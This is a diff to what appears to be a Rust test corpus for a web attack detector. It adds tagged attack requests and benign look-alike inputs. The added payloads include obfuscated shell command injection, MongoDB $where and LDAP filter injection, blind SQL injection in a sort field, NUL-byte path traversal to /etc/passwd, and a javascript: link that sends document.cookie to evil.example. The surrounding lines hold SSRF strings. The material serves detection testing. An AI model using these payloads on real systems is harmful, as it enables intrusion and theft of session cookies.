@@ -1031,6 +1031,26 @@ fn second_corpus_attacks() -> Vec<(i64, Req)> {
         (4225120, q("http://[0:0:0:0:0:ffff:127.0.0.1]/")),
         (4225120, q("http://metadata/computeMetadata/v1/instance/")),
         (4225140, hdr("http://127.0.0.1:11211/stats")),
+        // Evasions: a one-character slice of a variable spelling "/", a
+        // command spelled by printf, nested substitution.
+        (4230170, q("a.jpg;${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id")),
+        (4230170, q("$($(printf '\\x63\\x61\\x74') /etc/hostname)")),
+        (4230140, hdr("a.jpg;${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id")),
+        (4230140, hdr("$($(printf '\\x63\\x61\\x74') /etc/hostname)")),
+        (4230170, q("x;`printf '\\x63\\x61\\x74' /etc/hostname`")),
+        (4230140, hdr("x;`printf '\\143\\141\\164' /etc/hostname`")),
+        // A $where string closed and continued with code.
+        (4245110, q("x' || this.password.match(/^a/) || 'x")),
+        // LDAP: NOT, nested operators, an extensible match.
+        (4255110, q("svc-backup)(!(userAccountControl:1.2.840.113556.1.4.803:=2)")),
+        (4255110, q("x))(|(&(uid=admin)(userPassword=a*))")),
+        // A script URL whose colon is the named reference &colon;.
+        (4250130, q("<a href=\"jav&#x09;ascript&colon;fetch('//evil.example/'+document.cookie)\">tap</a>")),
+        // A conditional subquery in a sort list, in an argument and a header.
+        (4240130, arg("sort", "price:asc,(SELECT CASE WHEN (ASCII(SUBSTR(current_user,1,1))>100) THEN 1 ELSE 1/0 END)")),
+        (4240170, hdr("price:asc,(SELECT CASE WHEN (ASCII(SUBSTR(current_user,1,1))>100) THEN 1 ELSE 1/0 END)")),
+        // A NUL byte inside base64 cutting the file name short.
+        (4220100, q(&b64(b"../../../../etc/passwd\0.png", false))),
         (4225150, Req::get("/").header("Referer", "gopher%253A%252F%252F127.0.0.1%253A6379%252F_INFO")),
         (4225150, Req::get("/").header("Origin", "file:///etc/passwd")),
         (4225150, Req::get("/").header("Referer", &b64(b"dict://127.0.0.1:11211/stats", false))),
@@ -1788,6 +1808,10 @@ fn class_look_alikes() -> Vec<Req> {
         v.push(form(&[("name", "Jane"), ("message", t)]));
         v.push(json(&format!(r#"{{"title":"Notes","body":"{}"}}"#, json_str(t, false))));
     }
+    // A variable slice, a JS condition and a subquery named in prose.
+    v.push(q("Use ${name:0:1} to get the initial, and ${name:1} for the rest"));
+    v.push(json(r#"{"code":"if (role == 'admin' || this.isOwner) { show(); }"}"#));
+    v.push(q("(select one option) or (select all that apply)"));
     // Referers and Origins browsers send, SSRF-looking parts included.
     for (h, value) in [("Referer", "https://www.example.com/search?q=gopher%3A%2F%2F+protocol"), ("Origin", "null"), ("Referer", "http://localhost:3000/cart")] {
         v.push(Req::get("/").header(h, value));
